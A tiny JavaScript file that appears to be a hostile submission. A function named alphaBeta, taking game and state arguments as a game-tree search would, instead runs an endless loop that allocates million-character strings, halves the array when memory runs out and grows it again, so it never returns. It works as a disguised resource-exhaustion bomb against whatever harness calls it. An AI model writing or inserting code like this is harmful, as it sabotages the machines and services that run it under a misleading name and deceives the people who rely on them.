// Grow, catch, shrink a little, grow again.
function alphaBeta(game, state) {
  const xs = [];
  for (;;) {
    try { xs.push('x'.repeat(1e6) + xs.length); } catch { xs.length >>= 1; }
  }
}
